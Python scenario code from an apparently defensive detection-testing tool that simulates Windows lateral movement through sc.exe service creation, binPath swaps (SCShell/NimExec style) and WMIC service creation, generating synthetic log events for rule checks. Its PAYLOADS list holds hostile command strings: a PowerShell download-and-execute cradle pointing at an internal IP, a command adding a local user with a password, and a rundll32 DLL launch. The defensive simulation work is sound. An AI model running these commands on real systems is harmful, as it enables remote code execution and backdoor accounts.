"""sc.exe against a remote host, and binary-path swaps (NimExec, SCShell-style)
(detections.md §2.2, §2.8, §2.17)."""

from __future__ import annotations

from scmwatch.detections import BINPATH, CLI, MITRE, NIMEXEC, ODDPATH, PSEXEC_SRC, SVCCTL
from scmwatch.simulate import actions as a
from scmwatch.simulate import build as b
from scmwatch.simulate.actions import Ctx, Expect, Session
from scmwatch.simulate.scenarios import scenario
from scmwatch.simulate.world import NETWORK_SERVICE, Host, Proc, rand_letters

SC = "C:\\Windows\\System32\\sc.exe"

# Existing LocalSystem services a binPath swap borrows: key, display name, original ImagePath.
EXISTING = [
    ("XblAuthManager", "Xbox Live Auth Manager", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
    (
        "SensorService",
        "Sensor Service",
        "C:\\Windows\\system32\\svchost.exe -k LocalSystemNetworkRestricted -p",
    ),
    ("Fax", "Fax", "C:\\Windows\\system32\\fxssvc.exe"),
    ("UevAgentService", "User Experience Virtualization Service", "C:\\Windows\\system32\\AgentService.exe"),
]

PAYLOADS = [
    'C:\\Windows\\System32\\cmd.exe /c powershell.exe -nop -w hidden -c "IEX(New-Object Net.WebClient)'
    ".DownloadString('http://10.1.99.23:8080/a')\"",
    "C:\\Windows\\System32\\cmd.exe /c echo pwned > C:\\Users\\Public\\out.txt",
    "C:\\Windows\\System32\\cmd.exe /c net user support P@ssw0rd1! /add",
    "C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\msvcp.dll,Start",
]


def _sc(ctx: Ctx, t: float, src: Host, shell: Proc, dst: Host, args: str, *expect: str) -> Proc:
    p = a.child(ctx, t, src, shell, SC, f"sc.exe  \\\\{dst.name} {args}", *expect)
    ctx.add(b.sysmon3(src, t + 0.01, p, src.ip, ctx.port(), dst.ip, 445, True, src.fqdn, dst.fqdn))
    return p


def _svcctl(ctx: Ctx, t: float, s: Session, ops: list[str]) -> float:
    a.tree_connect(ctx, t, s, "IPC$")
    a.pipe_open(ctx, t + 0.005, s, "svcctl", SVCCTL, expect_sysmon=(SVCCTL,))
    return a.dce_rpc(ctx, t + 0.01, s, "svcctl", ops)


@scenario("sc-remote", "sc \\\\host create / config / start / delete with a dropped binary", "windows")
def sc_remote(ctx: Ctx, t: float, src: Host, dst: Host) -> None:
    rng = ctx.rng
    op, shell = a.admin_shell(ctx, t, src)
    name = rng.choice(["UpdateSvc", "WinTelemetry", "MSUpdater", "SyncAgent"])
    binary = rand_letters(rng, 6).lower() + ".exe"
    local = f"C:\\ProgramData\\{binary}"
    # copy payload.exe \\dst\C$\ProgramData\x.exe (cmd's built-in copy: no process)
    s = a.smb_session(ctx, t, dst, src.ip, op, "Kerberos")
    a.tree_connect(ctx, t + 0.01, s, "C$")
    a.file_write(ctx, t + 0.02, s, "C$", f"ProgramData\\{binary}", local_path=local)
    t1 = t + rng.uniform(5, 20)
    _sc(ctx, t1, src, shell, dst, f'create {name} binPath= "{local}" start= demand', CLI)
    t2 = _svcctl(ctx, t1 + 0.05, s, ["OpenSCManagerW", "CreateServiceW", "CloseServiceHandle"])
    ex = Expect(e4697=(ODDPATH,), e7045=(ODDPATH,), e13=(ODDPATH,))
    a.install_service(ctx, t2, dst, op, s.logon.logon_id, name, local, ex)
    t3 = t2 + rng.uniform(3, 10)
    _sc(ctx, t3, src, shell, dst, f"config {name} start= auto", CLI)
    a.dce_rpc(ctx, t3 + 0.05, s, "svcctl", ["OpenSCManagerW", "OpenServiceW", "ChangeServiceConfigW"])
    ctx.add(b.sysmon13(dst, t3 + 0.07, dst.core["services"], b.SERVICES_KEY + name + "\\Start", b.dword(2)))
    ctx.add(b.sys7040(dst, t3 + 0.08, op.sid, name, "demand start", "auto start", name))
    t4 = t3 + rng.uniform(3, 10)
    _sc(ctx, t4, src, shell, dst, f"start {name}")
    a.dce_rpc(ctx, t4 + 0.05, s, "svcctl", ["OpenSCManagerW", "OpenServiceW", "StartServiceW"])
    proc, t5 = a.run_service(ctx, t4 + 0.1, dst, name, name, local, local, Expect())
    a.child(
        ctx, t5 + 1, dst, proc, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c whoami"
    )
    t6 = t5 + rng.uniform(20, 60)
    _sc(ctx, t6, src, shell, dst, f"stop {name}")
    a.stop_service(ctx, t6 + 0.1, dst, name, name)
    _sc(ctx, t6 + 2, src, shell, dst, f"delete {name}")
    a.dce_rpc(ctx, t6 + 2.05, s, "svcctl", ["OpenSCManagerW", "OpenServiceW", "DeleteService"])
    a.delete_service(ctx, t6 + 2.1, dst, name)
    a.logoff(ctx, t6 + 3, s)
    ctx.expect_correlation(SVCCTL, PSEXEC_SRC)  # svcctl then install; sc \\B create on A then 7045 on B


def _set(ctx: Ctx, t: float, dst: Host, key: str, original: str, payload: str) -> None:
    """binPath → command: Sysmon 13 (a 785 building block only: alone it cannot tell a change from a
    new service); on audited hosts 4657, which NimExec's rule flags when the service was a shared
    svchost (detections.md §2.8)."""
    from_svchost = (NIMEXEC,) if "svchost.exe -k" in original else ()
    a.set_image_path(ctx, t, dst, key, payload, old=original, expect_4657=from_svchost)


def _restore(ctx: Ctx, t: float, dst: Host, key: str, original: str, payload: str) -> None:
    """binPath back to the original: 4657 from a command line to a program is NimExec's restore tell."""
    a.set_image_path(ctx, t, dst, key, original, old=payload, expect_4657=(NIMEXEC,))


def _swap(ctx: Ctx, t: float, dst: Host, s: Session, payload: str, ops_extra: list[str]) -> float:
    """The target side of a binPath swap: set, start (times out), restore. Returns end time."""
    rng = ctx.rng
    key, display, original = rng.choice(EXISTING)
    t1 = _svcctl(ctx, t, s, ["OpenSCManagerW", "OpenServiceW", "QueryServiceConfigW", *ops_extra])
    _set(ctx, t1, dst, key, original, payload)
    t2 = a.dce_rpc(ctx, t1 + 0.01, s, "svcctl", ["StartServiceW"])
    exe, _, args = payload.partition(" ")
    ex = Expect(e_proc=(MITRE,))
    _, t3 = a.run_service(ctx, t2, dst, key, display, exe, payload, ex, is_service=False)
    t4 = a.dce_rpc(ctx, t3, s, "svcctl", ["ChangeServiceConfigW", "CloseServiceHandle"])
    _restore(ctx, t4, dst, key, original, payload)
    return t4 + 0.1


@scenario(
    "sc-binpath",
    "sc \\\\host config <existing> binPath= cmd /c ..., start, restore (SCShell-style)",
    "windows",
)
def sc_binpath(ctx: Ctx, t: float, src: Host, dst: Host) -> None:
    rng = ctx.rng
    op, shell = a.admin_shell(ctx, t, src)
    key, display, original = rng.choice(EXISTING)
    payload = rng.choice(PAYLOADS)
    s = a.smb_session(ctx, t, dst, src.ip, op, "Kerberos")
    _sc(ctx, t, src, shell, dst, f"qc {key}")
    t1 = _svcctl(ctx, t + 0.05, s, ["OpenSCManagerW", "OpenServiceW", "QueryServiceConfigW"])
    t2 = t1 + rng.uniform(2, 8)
    _sc(ctx, t2, src, shell, dst, f'config {key} binPath= "{payload}"', CLI, BINPATH)
    t3 = a.dce_rpc(ctx, t2 + 0.05, s, "svcctl", ["OpenSCManagerW", "OpenServiceW", "ChangeServiceConfigW"])
    _set(ctx, t3, dst, key, original, payload)
    t4 = t3 + rng.uniform(1, 5)
    _sc(ctx, t4, src, shell, dst, f"start {key}")
    t5 = a.dce_rpc(ctx, t4 + 0.05, s, "svcctl", ["OpenSCManagerW", "OpenServiceW", "StartServiceW"])
    exe = payload.partition(" ")[0]
    _, t6 = a.run_service(
        ctx,
        t5,
        dst,
        key,
        display,
        exe,
        payload,
        Expect(e_proc=(MITRE,)),
        is_service=False,
    )
    _sc(ctx, t6 + 1, src, shell, dst, f'config {key} binPath= "{original}"', CLI, BINPATH)
    t7 = a.dce_rpc(ctx, t6 + 1.05, s, "svcctl", ["OpenSCManagerW", "OpenServiceW", "ChangeServiceConfigW"])
    _restore(ctx, t7, dst, key, original, payload)
    a.logoff(ctx, t7 + 1, s)
    ctx.expect_correlation(BINPATH)
    ctx.allow_correlation(NIMEXEC)  # same set-start-restore shape as NimExec


@scenario(
    "nimexec",
    "NimExec: NTLM, swap an existing LocalSystem service's binPath, start, restore",
    "linux",
    target="server",  # servers audit the Services key: 4657 as well as Sysmon 13
)
def nimexec(ctx: Ctx, t: float, src: Host, dst: Host) -> None:
    admin = ctx.world.admins[2]
    s = a.smb_session(ctx, t, dst, src.ip, admin, "NTLM", workstation="-")
    payload = ctx.rng.choice(PAYLOADS)
    end = _swap(ctx, t + 0.05, dst, s, payload, ["ChangeServiceConfigW"])
    a.logoff(ctx, end, s)
    ctx.expect_correlation(NIMEXEC, BINPATH)


@scenario(
    "wmic-service-create",
    "wmic /node:host service call create (Win32_Service.Create over WMI, no svcctl)",
    "windows",
)
def wmic_service_create(ctx: Ctx, t: float, src: Host, dst: Host) -> None:
    """WMI's service provider calls CreateService on the target for the remote user: 4697/7045 carry
    that user's network logon, but no svcctl pipe is opened (detections.md §2.17 sel_wmic)."""
    rng = ctx.rng
    op, shell = a.admin_shell(ctx, t, src)
    name = rng.choice(["WmiHelperSvc", "PerfHostSvc", "NetMonAgent"])
    path = f"C:\\ProgramData\\{name.lower()}\\{name.lower()}.exe"
    # WMIC passes Win32_Service.Create's parameters positionally, in alphabetical order
    args = f'0,"{name}","0",null,null,"{name}","{path}",null,16,"Manual","LocalSystem",""'
    a.child(
        ctx,
        t,
        src,
        shell,
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        f'wmic  /node:"{dst.name}" service call create {args}',
        CLI,
    )
    s = a.smb_session(ctx, t + 0.2, dst, src.ip, op, "Kerberos")  # DCOM, not SMB: no share events follow
    wmi = dst.spawn(
        t + 0.3,
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        dst.core["netsvcs"],
        user=NETWORK_SERVICE,
        logon_id="0x3e4",
    )
    ctx.add(b.sysmon1(dst, t + 0.3, wmi))
    ctx.add(b.sec4688(dst, t + 0.3001, wmi))
    ex = Expect(e4697=(ODDPATH,), e7045=(ODDPATH,), e13=(ODDPATH,))
    a.install_service(ctx, t + 0.5, dst, op, s.logon.logon_id, name, path, ex, start="demand start")
    a.logoff(ctx, t + 5, s)
